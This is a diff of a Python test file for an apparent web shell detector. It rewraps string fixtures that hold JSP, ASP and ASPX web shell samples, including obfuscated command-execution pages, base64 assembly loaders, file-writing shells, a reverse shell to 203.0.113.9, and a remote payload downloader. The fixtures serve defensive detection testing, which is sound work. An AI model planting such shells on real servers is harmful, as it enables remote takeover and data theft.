@@ -31,36 +31,49 @@ def seen(text, name):
         ("a.jsp", '<% String c = request.getParameter("c"); new ProcessBuilder("sh", c); %>'),
         (
             "a.jsp",
-            "<%!class U extends ClassLoader{Class g(byte []b){return super.defineClass(b,0,9);}}%>"
-            "<% new U().g(c.doFinal(d.decode(request.getReader().readLine()))); %>",
+            (
+                "<%!class U extends ClassLoader{Class g(byte[] b){return "
+                "super.defineClass(b,0,9);}}%>"
+                "<% new U().g(c.doFinal(d.decode(request.getReader().readLine()))); %>"
+            ),
         ),
         (
             "a.jsp",
-            f"<% Class r = Class.forName(new String(new byte[]{{{RUNTIME}}}));"
-            ' r.getMethod("ex" + "ec").invoke(o, request.getParameter("c")); %>',
+            (
+                f"<% Class r = Class.forName(new String(new byte[]{{{RUNTIME}}}));"
+                ' r.getMethod("ex" + "ec").invoke(o, request.getParameter("c")); %>'
+            ),
         ),
         ("a.jsp", '<% m.getEngineByName("js").eval(request.getParameter("c")); %>'),
         ("a.jsp", r'<% \u0052untime.getRuntime().ex\u0065c(request.getParameter("c")); %>'),
         ("a.jsp", '<% Runtime/**/.getRuntime().exec(request . getParameter("c")); %>'),
         (
             "a.jspx",
-            "<jsp:root><jsp:scriptlet>Runtime.getRuntime().ex<![CDATA[ec(request.get]]>"
-            'Parameter("c"));</jsp:scriptlet></jsp:root>',
+            (
+                "<jsp:root><jsp:scriptlet>Runtime.getRuntime().ex<![CDATA[ec(request.get]]>"
+                'Parameter("c"));</jsp:scriptlet></jsp:root>'
+            ),
         ),
         (
             "a.jspx",
-            "<jsp:root><jsp:scriptlet>Runtime.getRuntime().&#x65;xec("
-            'request.getParameter("c"));</jsp:scriptlet></jsp:root>',
+            (
+                "<jsp:root><jsp:scriptlet>Runtime.getRuntime().&#x65;xec("
+                'request.getParameter("c"));</jsp:scriptlet></jsp:root>'
+            ),
         ),
         (
             "a.jsp",
-            '<% Process p = Runtime.getRuntime().exec("/bin/sh"); OutputStream o ='
-            ' p.getOutputStream(); o.write(request.getParameter("c").getBytes()); %>',
+            (
+                '<% Process p = Runtime.getRuntime().exec("/bin/sh"); OutputStream o ='
+                ' p.getOutputStream(); o.write(request.getParameter("c").getBytes()); %>'
+            ),
         ),
         (
             "a.java",
-            "class A { void f(HttpServletRequest req) {"
-            ' Runtime.getRuntime().exec(req.getParameter("c")); } }',
+            (
+                "class A { void f(HttpServletRequest req) {"
+                ' Runtime.getRuntime().exec(req.getParameter("c")); } }'
+            ),
         ),
         ("a.asp", '<%eval request("x")%>'),
         ("a.asp", '<%If Request("a")<>"" Then Execute(Request("a"))%>'),
@@ -68,8 +81,10 @@ def seen(text, name):
         ("a.asp", '<% Set s = CreateObject("WScr" & "ipt.Shell")\ns.Exec(Request.Form("c")) %>'),
         (
             "a.asp",
-            '<object runat=server id=o classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">'
-            '</object><% x = o.exec(request("c")) %>',
+            (
+                '<object runat=server id=o classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">'
+                '</object><% x = o.exec(request("c")) %>'
+            ),
         ),
         ("a.asp", '<% Execute(Chr(101) & "val(request(""x""))") %>'),
         ("a.asp", '<% Execute(StrReverse(")""x""(tseuqer lave")) %>'),
@@ -77,8 +92,10 @@ def seen(text, name):
         ("a.asp", '<script language=vbs runat=server>eval(request("x"))</script>'),
         (
             "a.asp",
-            '<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var P = Request.form("z");'
-            ' var W = {"E" : eval}; W.E(P+"");</SCRIPT>',
+            (
+                '<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var P = Request.form("z");'
+                ' var W = {"E" : eval}; W.E(P+"");</SCRIPT>'
+            ),
         ),
         ("a.asp", '<%@codepage=65000%><%r+k-es+k-p = 1: e+k-val r+k-equest("x")%>'),
         ("a.asp", '<%eval request("x")%>'.encode("utf-16")),
@@ -86,13 +103,18 @@ def seen(text, name):
         ("a.aspx", '<%@ Page Language="C#"%><% Process.Start("cmd", "/c " + Request["c"]); %>'),
         (
             "a.aspx",
-            '<%@ Page Language="C#"%><script runat="server">void P() { ProcessStartInfo i ='
-            ' new ProcessStartInfo(); i.Arguments = "/c " + t.Text; Process.Start(i); }</script>',
+            (
+                '<%@ Page Language="C#"%><script runat="server">void P() { ProcessStartInfo i ='
+                ' new ProcessStartInfo(); i.Arguments = "/c " + t.Text; '
+                "Process.Start(i); }</script>"
+            ),
         ),
         (
             "a.ashx",
-            '<%@ WebHandler Language="C#" Class="H" %>\nclass H { void P(HttpContext c) {'
-            ' Assembly.Load(Convert.FromBase64String(c.Request["p"])); } }',
+            (
+                '<%@ WebHandler Language="C#" Class="H" %>\nclass H { void P(HttpContext c) {'
+                ' Assembly.Load(Convert.FromBase64String(c.Request["p"])); } }'
+            ),
         ),
         ("a.gif", 'GIF89a<%eval request("x")%>'),
     ],
@@ -107,14 +129,20 @@ def test_sees_what_runs_a_request(name, text):
         (
             "page-writes-request",
             "a.jsp",
-            '<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f"))'
-            '.write(request.getParameter("t").getBytes()); %>',
+            (
+                '<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f"))'
+                '.write(request.getParameter("t").getBytes()); %>'
+            ),
         ),
         (
             "page-writes-request",
             "a.jsp",
-            '<% FileOutputStream os = new FileOutputStream(request.getParameter("f")); InputStream'
-            " is = request.getInputStream(); byte[] b = new byte[9]; is.read(b); os.write(b); %>",
+            (
+                "<% FileOutputStream os = new "
+                'FileOutputStream(request.getParameter("f")); InputStream'
+                " is = request.getInputStream(); byte[] b = new byte[9]; is.read(b); "
+                "os.write(b); %>"
+            ),
         ),
         (
             "page-writes-request",
@@ -124,20 +152,26 @@ def test_sees_what_runs_a_request(name, text):
         (
             "page-manages-files",
             "a.jsp",
-            '<% File f = new File(request.getParameter("d")); f.listFiles(); f.delete();'
-            " f.renameTo(g); %>",
+            (
+                '<% File f = new File(request.getParameter("d")); f.listFiles(); f.delete();'
+                " f.renameTo(g); %>"
+            ),
         ),
         (
             "page-queries-request",
             "a.jsp",
-            '<% Connection c = DriverManager.getConnection(request.getParameter("u"));'
-            ' c.createStatement().executeQuery(request.getParameter("q")); %>',
+            (
+                '<% Connection c = DriverManager.getConnection(request.getParameter("u"));'
+                ' c.createStatement().executeQuery(request.getParameter("q")); %>'
+            ),
         ),
         (
             "script-connects-back",
             "a.jsp",
-            '<% Socket s = new Socket("203.0.113.9", 99); Process p ='
-            ' Runtime.getRuntime().exec("/bin/sh"); join(p, s.getOutputStream()); %>',
+            (
+                '<% Socket s = new Socket("203.0.113.9", 99); Process p ='
+                ' Runtime.getRuntime().exec("/bin/sh"); join(p, s.getOutputStream()); %>'
+            ),
         ),
         (
             "script-connects-back",
@@ -147,14 +181,19 @@ def test_sees_what_runs_a_request(name, text):
         (
             "script-runs-decoded",
             "a.asp",
-            '<% Execute(D("%119%136%115%126%50%132%119%131")):Function D(S):S=Split(S,"%")'
-            ":For I=1 To 8:D=D&Chr(S(I)-18):Next:End Function %>",
+            (
+                '<% Execute(D("%119%136%115%126%50%132%119%131")):Function D(S):S=Split(S,"%")'
+                ":For I=1 To 8:D=D&Chr(S(I)-18):Next:End Function %>"
+            ),
         ),
         (
             "script-runs-remote",
             "a.asp",
-            '<% Set x = CreateObject("Microsoft.XMLHTTP")\nSet g = CreateObject("ADODB.Stream")\n'
-            'g.Write(x.responseBody)\ng.SaveToFile Server.MapPath("x.asp"), 2 %>',
+            (
+                '<% Set x = CreateObject("Microsoft.XMLHTTP")\nSet g = '
+                'CreateObject("ADODB.Stream")\n'
+                'g.Write(x.responseBody)\ng.SaveToFile Server.MapPath("x.asp"), 2 %>'
+            ),
         ),
         (
             "script-runs-decoded",
@@ -178,8 +217,10 @@ def test_sees_what_opens_the_machine(mark, name, text):
         ("a.jsp", '<% out.print(request.getParameter("a")); %>'),
         (
             "a.jsp",
-            '<% int n = Integer.parseInt(request.getParameter("n"));'
-            ' Runtime.getRuntime().exec("ls " + n); %>',
+            (
+                '<% int n = Integer.parseInt(request.getParameter("n"));'
+                ' Runtime.getRuntime().exec("ls " + n); %>'
+            ),
         ),
         ("a.jsp", '<% if ("x".equals(request.getParameter("a"))) r.exec("uptime"); %>'),
         ("a.jsp", '<% s.executeQuery("select a where c = " + request.getParameter("c")); %>'),
@@ -190,13 +231,17 @@ def test_sees_what_opens_the_machine(mark, name, text):
         ("a.asp", '<% n = CLng(Request("n"))\nExecute("x=" & n) %>'),
         (
             "a.asp",
-            '<% Set f = o.CreateTextFile(Server.MapPath("h/" & Request("id") & ".html"))\n'
-            'f.Write Request("t") %>',
+            (
+                '<% Set f = o.CreateTextFile(Server.MapPath("h/" & Request("id") & ".html"))\n'
+                'f.Write Request("t") %>'
+            ),
         ),
         (
             "a.asp",
-            '<% Set f = o.CreateTextFile(Server.MapPath("config.asp"), True)\n'
-            'f.Write "Const n = """\nf.Write Request("n")\nf.Write """ end" %>',
+            (
+                '<% Set f = o.CreateTextFile(Server.MapPath("config.asp"), True)\n'
+                'f.Write "Const n = """\nf.Write Request("n")\nf.Write """ end" %>'
+            ),
         ),
         ("a.asp", '<% Set s = Server.CreateObject("ADOD" & "B.Stream") %>'),
         ("a.asp", "<script>eval(location.hash)</script>"),
